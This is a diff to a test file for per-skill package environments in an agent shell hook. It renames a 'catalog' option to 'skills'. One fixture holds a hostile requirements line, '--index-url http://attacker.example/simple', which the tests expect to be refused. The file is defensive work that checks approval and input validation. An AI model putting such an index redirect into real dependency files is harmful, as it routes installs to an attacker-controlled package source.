@@ -77,7 +77,7 @@ describe.each(["bubblewrap", "local"] as const)("per-skill environments (%s)", (
   it("asks before installing, installs offline from a local wheel, then reuses the environment", async () => {
     const { root, wheels, catalog } = fixture("tinygreet==1.0\n");
     const hook = createShellHook({
-      catalog,
+      skills: catalog,
       executor,
       loadedSkills: () => ["greeter"],
       workspaceRoot: path.join(root, "ws"),
@@ -113,7 +113,7 @@ describe.each(["bubblewrap", "local"] as const)("per-skill environments (%s)", (
   it("installs nothing when the approval is refused, and refuses requirement lines that are not plain packages", async () => {
     const denied = fixture("tinygreet==1.0\n");
     const hook = createShellHook({
-      catalog: denied.catalog,
+      skills: denied.catalog,
       executor,
       loadedSkills: () => ["greeter"],
       workspaceRoot: path.join(denied.root, "ws"),
@@ -127,7 +127,7 @@ describe.each(["bubblewrap", "local"] as const)("per-skill environments (%s)", (
 
     const hostile = fixture("tinygreet==1.0\n--index-url http://attacker.example/simple\n");
     const strictHook = createShellHook({
-      catalog: hostile.catalog,
+      skills: hostile.catalog,
       executor,
       loadedSkills: () => ["greeter"],
       workspaceRoot: path.join(hostile.root, "ws"),
